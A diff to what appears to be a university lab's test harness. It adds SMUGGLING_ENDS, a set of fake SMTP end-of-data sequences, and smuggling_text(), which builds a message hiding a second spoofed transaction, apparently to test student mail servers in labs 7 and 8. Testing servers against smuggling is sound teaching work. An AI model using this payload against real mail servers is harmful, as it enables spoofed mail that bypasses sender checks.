@@ -9,6 +9,7 @@
               "score: X/Y", results.json in Gradescope's format, exit status
   Capture     mw-trace writing a pcap of given ports (root), and trace_json ()
               reading a capture back as mw-trace --json events
+  SMUGGLING_ENDS, smuggling_text ()   end-of-data look-alikes (labs 7, 8)
 Every wait is bounded; every process started here is stopped by its PID.
 """
 import json
@@ -318,6 +319,31 @@ def strip_trace_headers(stored):
         if not m:
             return rest
         rest = rest[m.end():]
+
+
+# ---- SMTP smuggling (labs 7 and 8) ----------------------------------------
+
+# Look-alikes of the end of DATA (the CVE-2023-51764 class): only CRLF . CRLF
+# ends the text (RFC 5321 §4.1.1.4); a server that also takes one of these
+# ends the message early and reads what follows as commands.
+SMUGGLING_ENDS = {
+    "lf-dot-lf": b"\n.\n",
+    "lf-dot-crlf": b"\n.\r\n",
+    "crlf-dot-lf": b"\r\n.\n",
+    "crlf-dot-cr": b"\r\n.\r",
+    "cr-dot-cr": b"\r.\r",
+}
+
+
+def smuggling_text(end, sender, recipient, subject=b"smuggled"):
+    """Message text (what follows the 354) that hides END and then a second
+    transaction (MAIL FROM:<SENDER>, RCPT TO:<RECIPIENT>, DATA, a message
+    with SUBJECT), and finishes with the real CRLF . CRLF."""
+    return (b"Subject: outer\r\n\r\nThe outer message." + end +
+            b"MAIL FROM:<" + sender.encode() + b">\r\n" +
+            b"RCPT TO:<" + recipient.encode() + b">\r\n" +
+            b"DATA\r\nSubject: " + subject + b"\r\n\r\n" +
+            b"A message nobody sent.\r\n.\r\n")
 
 
 # ---- the student's program -----------------------------------------------
